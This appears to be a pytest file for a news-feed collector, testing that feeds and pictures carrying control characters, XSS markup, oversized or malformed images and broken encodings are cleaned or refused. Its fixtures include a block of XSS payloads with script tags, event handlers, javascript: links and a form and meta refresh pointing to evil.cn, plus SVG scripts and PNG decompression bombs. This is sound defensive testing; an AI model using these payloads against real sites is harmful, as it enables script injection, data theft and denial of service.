"""What can stand inside feeds and pictures that come whole: harmless afterwards, or a named failure."""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest
from loopback import serving
from misbehaving import misbehaving, pouring, saying
from PIL import Image
from sqlmodel import select
from test_collecting_bad_answers import ENTRY, FEED, NOW, add, newsroom_of

from connectors.base import RawPage
from connectors.errors import FormatChanged
from connectors.http import HttpClient, HttpLimits
from connectors.sources.rss import Rss, RssSettings
from content_store.database import Store
from content_store.tables import Article, ArticlePicture
from steps.collect import Visit, collect_each
from steps.newsroom import Newsroom
from steps.pictures import fetch_waiting

TEXT = "长白山天池是松花江、图们江和鸭绿江的源头，火山监测站常年记录。"
CONTROLS = "".join(chr(code) for code in range(1, 32) if chr(code) not in "\t\n\r") + "\x7f\x85\u2028\ufffe\uffff"


def entry(title: str = "天池", body: str = TEXT, more: str = "") -> str:
    return f"<item><guid>1</guid><title>{title}</title><description><![CDATA[{body}]]></description>{more}</item>"


def feed(*entries: str) -> str:
    return f"<rss version='2.0'><channel><title>源</title>{''.join(entries)}</channel></rss>"


def visited(newsroom: Newsroom, content: bytes | str, *headers: str) -> Visit:
    """One round over a source with this content and a good one, which must be stored whatever the first gives."""
    with misbehaving(saying(content, *headers)) as bad, serving() as site:
        add(newsroom, "bad", f"{bad.base}/feed")
        add(newsroom, "good", site.put("/feed", FEED.replace("<guid>1", "<guid>good")))
        visits = {visit.key: visit for visit in collect_each(newsroom, NOW, ["bad", "good"])}
    assert (visits["good"].error, visits["good"].counts["new"]) == ("", 1)
    return visits["bad"]


def taken(newsroom: Newsroom) -> list[Article]:
    with newsroom.store.reading() as session:
        return list(session.exec(select(Article).where(Article.external_id != "good")))


@pytest.mark.parametrize(
    "content",
    [
        feed(entry("天\x00池", TEXT.replace("是", "\x00是"))),
        feed(entry(f"天{CONTROLS}池", TEXT[:5] + CONTROLS + TEXT[5:])),
        feed(entry("天&#0;池", TEXT + "&#0;&#x1f;&#xD800;")),
        json.dumps({"items": [{"id": "1", "title": "天\x00\ud800池", "content_html": f"<p>{TEXT}\x00\udfff</p>"}]}),
        json.dumps(
            {"items": [{"id": "\x001\ud800", "url": "http://a.cn/\x00", "title": "天池", "content_text": TEXT}]}
        ),
    ],
    ids=["U+0000", "every control character", "as references", "in JSON", "in an id"],
)
def test_control_characters_and_halves_of_characters_are_never_stored(
    content: str, store: Store, tmp_path: Path
) -> None:
    newsroom = newsroom_of(store, tmp_path)
    visit = visited(newsroom, content.encode("utf-8", "surrogatepass"))
    assert visit.error == ""
    (article,) = taken(newsroom)
    said = f"{article.external_id}{article.url}{article.title}{article.text}{article.html}"
    assert not any((ord(letter) < 32 and letter not in "\n\t") or 0xD800 <= ord(letter) < 0xE000 for letter in said)
    assert article.title.startswith("天")
    assert article.title.endswith("池")


def test_a_title_of_10_mb_is_cut(sqlite_store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path, http_limits=HttpLimits())
    assert visited(newsroom, feed(entry("天" * 3_500_000))).error == ""
    assert [len(article.title) for article in taken(newsroom)] == [300]


@pytest.mark.parametrize(
    "moment",
    [
        "Fri, 31 Dec 9999 23:59:59 -1200",
        "9999-12-31T23:59:59-12:00",
        "0000-00-00T00:00:00Z",
        "0001-01-01T00:00:00+14:00",
        "Mon, 99 Foo 99999 99:99:99 +9999",
        "1e400",
        "-1",
    ],
)
def test_no_date_stops_an_article(moment: str, store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(store, tmp_path)
    assert visited(newsroom, feed(entry(more=f"<pubDate>{moment}</pubDate><dc:date>{moment}</dc:date>"))).error == ""
    (article,) = taken(newsroom)
    assert article.published_at is None or article.published_at.tzinfo is not None


HARM = """<p onclick="steal()" style="background:url(javascript:steal())">天池</p><script>steal()</script>
<img src="x.jpg" onerror="steal()"><svg onload="steal()"><script>steal()</script></svg><iframe src="//evil.cn"></iframe>
<a href="javascript:steal()">看</a><a href="data:text/html,<script>steal()</script>">看</a><math><mi xlink:href="javascript:steal()">
</mi></math><object data="steal.swf"></object><form action="//evil.cn/steal"><input name="word"></form><template><script>steal()
</script></template><noscript><p title="</noscript><img src=x onerror=steal()>"></noscript><style>@import 'steal.css'</style>
<base href="//evil.cn/"><meta http-equiv="refresh" content="0;url=//evil.cn/steal"><a href="&#106;avascript:steal()">看</a>"""


@pytest.mark.parametrize("wrap", ["<![CDATA[{}]]>", "{}"], ids=["as CDATA", "as XML that is none"])
def test_scripts_and_event_handlers_are_never_stored(wrap: str, sqlite_store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    harmful = f"<item><guid>1</guid><title>天池<script>steal()</script></title><description>{wrap.format(HARM + TEXT)}</description></item>"
    assert visited(newsroom, feed(harmful)).error == ""
    (article,) = taken(newsroom)
    assert "天池" in article.text
    stored = f"{article.title}{article.html}{article.url}".lower()
    assert [word for word in ("steal", "<script", "<svg", "javascript:", "onerror", "evil.cn") if word in stored] == []


@pytest.mark.parametrize("cut", [30, 60, 120, 200])
@pytest.mark.parametrize("charset", ["utf-8", "gb18030", "big5", "utf-16"])
def test_a_feed_cut_off_anywhere_gives_what_is_there_or_says_so(
    cut: int, charset: str, sqlite_store: Store, tmp_path: Path
) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    whole = (
        f"<?xml version='1.0' encoding='{charset}'?>{feed(entry('天池', '長白山天池'), entry('火山', '長白山火山'))}"
    )
    content = whole.encode(charset)
    visit = visited(newsroom, content[: len(content) * cut // 240 | 1])
    assert (visit.error == "") != (visit.error.endswith("。"))


@pytest.mark.parametrize(
    "mixture", [("gb18030", "utf-8"), ("utf-8", "gb18030"), ("big5", "utf-8"), ("latin-1", "utf-8")]
)
def test_two_encodings_in_one_feed_harm_nothing_but_their_letters(
    mixture: tuple[str, str], sqlite_store: Store, tmp_path: Path
) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    one, other = (
        text.encode(name, "replace") for text, name in zip((feed(entry())[:-30], "長白山"), mixture, strict=True)
    )
    assert visited(newsroom, one + other + b"</channel></rss>", "Content-Type: text/xml; charset=us-ascii").error == ""


def malformed(folder: Path) -> list[tuple[str, bytes]]:
    kinds = ("feedparser", "gofeed", "miniflux", "feedjira")
    found = [
        (str(path.relative_to(folder)), path.read_bytes())
        for kind in kinds
        for path in sorted((folder / kind).rglob("*"))
        if path.is_file() and path.suffix in (".xml", ".rss", ".atom", ".rdf", ".json", ".feed")
    ]
    with tarfile.open(folder / "wechat_feeds.tar.gz") as archive:
        members = [member for member in archive if member.isfile()][:40]
        found += [(member.name, archive.extractfile(member).read()) for member in members]  # type: ignore[union-attr]
    return found


def test_every_feed_of_other_parsers_tests_is_read_or_refused_by_name(shared_data: Path) -> None:
    source = Rss(RssSettings(url="http://a.cn/feed"), HttpClient(now=lambda: NOW))
    refused = [
        (name, refusal)
        for name, content in malformed(shared_data / "feeds")
        if (refusal := refused_with(source, content)) is not None
    ]
    assert [name for name, error in refused if not error.message.endswith("。") or error.page is None] == []
    assert 0 < len(refused) < 300


def refused_with(source: Rss, content: bytes) -> FormatChanged | None:
    try:
        source.parse(RawPage(url="http://a.cn/feed", status=200, body=content, fetched_at=datetime.now(UTC)))
    except FormatChanged as error:
        return error
    return None


def picture(kind: str = "PNG", size: tuple[int, int] = (300, 300)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 90, 160)).save(out, kind)
    return out.getvalue()


def png(*chunks: tuple[bytes, bytes]) -> bytes:
    made = b"\x89PNG\r\n\x1a\n"
    for name, content in chunks:
        made += struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
    return made


def header(width: int, height: int) -> tuple[bytes, bytes]:
    return b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


_END = (b"IEND", b"")
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='300' height='300'><script>alert(1)</script></svg>"
BAD_PICTURES = {
    "an SVG with a script": saying(SVG, "Content-Type: image/svg+xml"),
    "an SVG that says it is a JPEG": saying(SVG, "Content-Type: image/jpeg"),
    "a web page": saying("<html><script>alert(1)</script></html>", "Content-Type: image/png"),
    "50,000 by 50,000 pixels": saying(png(header(50_000, 50_000), (b"IDAT", zlib.compress(bytes(1000))), _END)),
    "pixels without number": saying(png(header(2**31 - 1, 2**31 - 1), _END)),
    "a text of 100 MB in a chunk": saying(
        png(header(300, 300), (b"zTXt", b"a\0\0" + zlib.compress(bytes(100_000_000))), (b"IDAT", b""), _END)
    ),
    "cut off": saying(picture()[:60]),
    "more bytes than a picture has": pouring(b"HTTP/1.1 200 OK\r\n\r\n", picture() * 100, 100_000),
    "a number in an address": saying("", "Location: http://2852039166/x.png", status="302 Found"),
    "a TIFF": saying(picture("TIFF")),
    "nothing": saying(b""),
}


def test_no_bad_picture_is_stored_and_a_good_one_beside_them_is(sqlite_store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    with serving() as site, _all(BAD_PICTURES) as bases:
        images = [f"<img src='{base}/photo.png'>" for base in bases.values()]
        images.append(f"<img src='{site.put('/good.png', picture())}'>")
        add(newsroom, "pictures", site.put("/feed", feed(entry(body=f"<p>{TEXT}</p>" + "".join(images)))))
        (visit,) = collect_each(newsroom, NOW, ["pictures"])
        counts = fetch_waiting(newsroom, NOW)
    assert visit.counts["new"] == 1
    with newsroom.store.reading() as session:
        kept = [row.url for row in session.exec(select(ArticlePicture)) if row.media_sha256]
    assert kept == [f"{site.base}/good.png"]
    assert counts == {"pictures": 1, "pictures_failed": len(BAD_PICTURES)}


def test_a_picture_whose_host_asks_for_silence_keeps_its_tries(sqlite_store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    busy = saying("", "Retry-After: 60", status="503 Busy")
    with misbehaving(busy) as bad, serving() as site:
        images = "".join(f"<img src='{bad.base}/{number}.png'>" for number in range(3))
        add(newsroom, "pictures", site.put("/feed", feed(entry(body=f"<p>{TEXT}</p>{images}"))))
        list(collect_each(newsroom, NOW, ["pictures"]))
        assert fetch_waiting(newsroom, NOW, seconds=0) == {"pictures": 0, "pictures_failed": 0}
        for _ in range(4):
            assert fetch_waiting(newsroom, NOW)["pictures_failed"] == 3
        assert len(bad.asked) == 1
    with newsroom.store.reading() as session:
        assert {row.tries for row in session.exec(select(ArticlePicture))} == {0}


class _all:
    """One server for each behaviour."""

    def __init__(self, behaviours: dict[str, object]) -> None:
        self._running = {name: misbehaving(behave) for name, behave in behaviours.items()}  # type: ignore[arg-type]

    def __enter__(self) -> dict[str, str]:
        return {name: running.__enter__().base for name, running in self._running.items()}

    def __exit__(self, *_: object) -> None:
        for running in self._running.values():
            running.__exit__(None, None, None)


def test_a_document_type_that_only_names_itself_is_no_reason_to_refuse(sqlite_store: Store, tmp_path: Path) -> None:
    newsroom = newsroom_of(sqlite_store, tmp_path)
    named = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://127.0.0.1:9/rss-0.91.dtd">'
    assert (
        visited(newsroom, f"<?xml version='1.0'?>{named}<rss version='0.91'><channel>{ENTRY}</channel></rss>").error
        == ""
    )
    assert len(taken(newsroom)) == 1
